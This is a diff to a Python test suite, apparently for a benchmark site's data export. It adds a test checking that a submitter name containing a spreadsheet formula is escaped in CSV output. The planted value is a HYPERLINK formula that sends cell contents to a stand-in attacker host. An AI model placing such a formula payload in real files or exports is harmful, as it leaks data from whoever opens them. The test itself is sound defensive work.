@@ -25,6 +25,7 @@ from bench.site.collect import collect
 
 SECRET_LOG = "CANDIDATE-LOG-7f3a9c-should-never-leave"
 SECRET_CONTACT = "private-contact-1b2c@example.org"
+FORMULA_NAME = '=HYPERLINK("http://attacker.invalid/?"&A1,"click")'
 
 
 def _manifest(site: Path) -> dict[str, Any]:
@@ -146,6 +147,7 @@ def planted(tmp_path: Path) -> tuple[Path, Path]:
     for f in store.parquet_files(data / "submissions"):
         t = pq.read_table(f)
         t = t.set_column(t.schema.get_field_index("contact"), "contact", pa.array([SECRET_CONTACT] * t.num_rows))
+        t = t.set_column(t.schema.get_field_index("name"), "name", pa.array([FORMULA_NAME] * t.num_rows))
         store.write_atomic(t, Path(f))
     metrics = Metrics(data)
     out = tmp_path / "out"
@@ -166,3 +168,12 @@ def test_nothing_private_is_published(planted: tuple[Path, Path]) -> None:
             blob = json.dumps(pq.read_table(p).to_pylist(), default=str).encode()
         assert SECRET_LOG.encode() not in blob, p
         assert SECRET_CONTACT.encode() not in blob, p
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(planted: tuple[Path, Path]) -> None:
+    """A submitter's name "=HYPERLINK(...)" stays data: in CSV it is quoted with an apostrophe, in Parquet kept."""
+    _, out = planted
+    names = duckdb.sql(f"SELECT DISTINCT name FROM read_csv('{out / 'data/submissions.csv'}')").fetchall()
+    assert ("'" + FORMULA_NAME,) in names and (FORMULA_NAME,) not in names
+    raw = duckdb.sql(f"SELECT DISTINCT name FROM '{out / 'data/submissions.parquet'}'").fetchall()
+    assert (FORMULA_NAME,) in raw
